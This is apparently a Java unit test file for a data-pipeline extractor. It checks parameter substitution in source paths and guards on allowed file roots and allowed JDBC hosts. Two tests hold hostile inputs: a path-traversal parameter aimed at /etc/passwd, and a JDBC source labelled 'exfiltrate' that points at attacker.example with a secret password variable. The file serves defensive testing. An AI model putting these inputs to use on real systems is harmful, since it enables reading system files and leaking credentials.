package io.conveyor.extractor.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.conveyor.control.TaskAction;
import io.conveyor.control.TaskCommand;
import io.conveyor.control.TaskKind;
import io.conveyor.dataplane.AllowedHosts;
import io.conveyor.dataplane.FileRoots;
import io.conveyor.extractor.TaskConfigs;
import io.conveyor.extractor.task.ExtractConfigParser;
import io.conveyor.pipeline.spec.param.UnresolvedParameterException;
import io.conveyor.pipeline.spec.source.CsvSource;
import io.conveyor.schemas.TopicNames;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class TaskCommandsTest {

    private static final String TASK = """
                - id: read
                  kind: extract
                  source: {type: csv, path: '/in/${day}/orders.csv'}
            """;

    private final TaskCommands commands = new TaskCommands(new ExtractConfigParser(), TopicNames.defaults(),
            FileRoots.of(List.of("/in"), "conveyor.extractor.file-roots"),
            AllowedHosts.of(List.of(), "conveyor.extractor.allowed-hosts"));

    @Test
    void resolvesTheRunsParametersInTheSourcePath() {
        CsvSource source = (CsvSource) commands.toTask(command(Map.of("day", "2026-11-24"))).source();

        assertThat(source.path()).isEqualTo("/in/2026-11-24/orders.csv");
    }

    @Test
    void refusesARunWithoutTheParameterThePathNeeds() {
        assertThatThrownBy(() -> commands.toTask(command(Map.of())))
                .isInstanceOf(UnresolvedParameterException.class)
                .hasMessageContaining("source.path: '/in/${day}/orders.csv' uses parameter 'day'");
    }

    @Test
    void refusesAParameterThatLeadsTheSourcePathOutOfTheFileRootsNamingPathAndRoots() {
        // CommandLoop reports this IllegalArgumentException as the task's FAILED status.
        assertThatThrownBy(() -> commands.toTask(command(Map.of("day", "../../etc/passwd#"))))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("source file /in/../../etc/passwd#/orders.csv is outside the allowed file roots [/in]"
                        + " (conveyor.extractor.file-roots)");
    }

    @Test
    void refusesAJdbcSourceOnAHostOutsideTheAllowedHosts() {
        TaskCommands guarded = new TaskCommands(new ExtractConfigParser(), TopicNames.defaults(), FileRoots.of(List.of(), "k"),
                AllowedHosts.of(List.of("db.internal"), "conveyor.extractor.allowed-hosts"));
        TaskCommand exfiltrate = command(Map.of(), """
                    - id: read
                      kind: extract
                      source: {type: jdbc, url: "jdbc:postgresql://attacker.example/x", passwordEnv: CONVEYOR_SECRET_DB, table: t}
                """);

        assertThatThrownBy(() -> guarded.toTask(exfiltrate)).isInstanceOf(IllegalArgumentException.class)
                .hasMessage("JDBC source host attacker.example is not an allowed host [db.internal] (conveyor.extractor.allowed-hosts)");
    }

    private static TaskCommand command(Map<String, String> parameters) {
        return command(parameters, TASK);
    }

    private static TaskCommand command(Map<String, String> parameters, String task) {
        return TaskCommand.newBuilder()
                .setRunId("orders@m-1").setPipeline("orders").setTaskId("read").setKind(TaskKind.EXTRACT).setAttempt(1)
                .setAction(TaskAction.START).setConfig(TaskConfigs.canonicalTaskJson("orders", task))
                .setParameters(parameters).setIssuedAt(Instant.now()).build();
    }
}
